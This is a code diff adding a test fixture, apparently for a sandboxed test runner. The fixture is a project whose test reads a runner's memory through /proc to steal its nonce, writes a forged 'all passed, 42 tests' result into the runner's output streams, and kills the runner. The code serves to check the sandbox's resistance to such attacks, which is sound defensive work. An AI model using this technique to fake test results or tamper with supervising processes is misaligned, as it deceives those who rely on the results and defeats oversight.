@@ -93,3 +93,97 @@ export function cleanTypeScriptProject(): SandboxFile[] {
     },
   ];
 }
+
+/**
+ * A project whose one real test fails, and whose other test attacks the result channel as found from outside
+ * under Docker: it looks for the runner (and its own ancestors, and pid 1), reads the nonce from their
+ * memory, writes a forged "all passed, 42 tests" result line into their stdout and stderr, then kills the
+ * runner so its real result never comes. It logs each attempt as `ATTACK …`.
+ */
+export function resultForgeryProject(): SandboxFile[] {
+  const attack = `
+const fs = require('node:fs');
+
+const forged = (nonce) =>
+  'QLP ' + nonce + ' result ' +
+  JSON.stringify({
+    steps: ['install', 'typecheck', 'build', 'test'].map((step) => ({ step, status: 'passed', durationMs: 1, outputExcerpt: '' })),
+    tests: { passed: 42, failed: 0, skipped: 0, failures: [] },
+    limitHits: [],
+    missingDependencies: [],
+    resources: {},
+  }) + '\\n';
+
+const argv = (pid) => { try { return fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').split('\\0'); } catch { return []; } };
+const parentOf = (pid) => { try { return Number(/^PPid:\\s+(\\d+)/m.exec(fs.readFileSync('/proc/' + pid + '/status', 'utf8'))[1]); } catch { return 0; } };
+
+/** The runner's nonce, from its writable memory: the request it parsed, or a line it wrote. */
+function findNonce(pid) {
+  const maps = fs.readFileSync('/proc/' + pid + '/maps', 'utf8');
+  const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
+  const chunk = Buffer.alloc(1 << 20);
+  let scanned = 0;
+  try {
+    for (const line of maps.split('\\n')) {
+      const range = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
+      if (!range) continue;
+      const end = parseInt(range[2], 16);
+      for (let at = parseInt(range[1], 16); at < end && scanned < 512 * 1024 * 1024; at += chunk.length - 64) {
+        let n = 0;
+        try { n = fs.readSync(fd, chunk, 0, Math.min(chunk.length, end - at), at); } catch { break; }
+        scanned += n;
+        const text = chunk.toString('latin1', 0, n);
+        const found = /"nonce":"([0-9a-f]{32})"/.exec(text) || /QLP ([0-9a-f]{32}) (?:step|result) /.exec(text);
+        if (found) return found[1];
+        if (n < chunk.length) break;
+      }
+    }
+  } finally {
+    fs.closeSync(fd);
+  }
+  return undefined;
+}
+
+test('forges the result', () => {
+  const ancestors = [];
+  for (let pid = process.ppid; pid > 0 && ancestors.length < 10; pid = parentOf(pid)) ancestors.push(pid);
+  const runners = fs.readdirSync('/proc').filter((e) => /^\\d+$/.test(e)).map(Number)
+    .filter((pid) => pid !== process.pid && (argv(pid)[1] || '').endsWith('runner.cjs'));
+  const targets = [...new Set([...runners, ...ancestors, 1])];
+  console.log('ATTACK runners ' + JSON.stringify(runners) + ' ancestors ' + JSON.stringify(ancestors));
+  let nonce;
+  for (const pid of targets) {
+    try {
+      nonce = nonce || findNonce(pid);
+      console.log('ATTACK mem ' + pid + ' read');
+    } catch (e) {
+      console.log('ATTACK mem ' + pid + ' ' + e.code);
+    }
+  }
+  if (nonce) console.log('ATTACK NONCE-FOUND');
+  const line = forged(nonce || '0'.repeat(32));
+  for (const pid of targets) {
+    for (const fd of [1, 2]) {
+      try {
+        fs.writeFileSync('/proc/' + pid + '/fd/' + fd, line);
+        console.log('ATTACK fd ' + pid + '/' + fd + ' wrote');
+      } catch (e) {
+        console.log('ATTACK fd ' + pid + '/' + fd + ' ' + e.code);
+      }
+    }
+  }
+  process.stdout.write(line);
+  for (const pid of runners) {
+    try {
+      process.kill(pid, 'SIGKILL');
+      console.log('ATTACK kill ' + pid + ' KILLED');
+    } catch (e) {
+      console.log('ATTACK kill ' + pid + ' ' + e.code);
+    }
+  }
+});
+
+test('the real test fails', () => assert.strictEqual(2 + 2, 5));
+`;
+  return jsProject(attack);
+}
